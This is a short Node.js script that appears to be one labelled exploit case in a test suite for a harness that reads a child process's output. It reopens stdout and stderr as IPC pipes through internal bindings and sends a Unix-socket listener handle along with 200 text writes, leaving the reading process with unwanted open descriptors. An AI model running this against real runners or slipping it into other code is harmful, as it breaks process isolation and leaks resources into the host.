// exploit: sends open descriptors, sockets and listeners along with what it writes to stdout and stderr, for the reader to be left with
// outcome: finished
// says: sent with text
const net = require('node:net')
const { Pipe, constants } = process.binding('pipe_wrap')
const { WriteWrap } = process.binding('stream_wrap')

const listener = net.createServer().listen('/tmp/listener.sock')
for (const descriptor of [1, 2]) {
  const stream = new Pipe(constants.IPC)
  stream.open(descriptor)
  let sent = 0
  for (let round = 0; round < 200; round += 1) {
    const error = stream.writeUtf8String(new WriteWrap(), 'sent with text\n', listener._handle)
    if (error === 0) sent += 1
  }
  if (sent === 0) console.log('nothing was sent', descriptor)
}
setTimeout(() => process.exit(), 200)
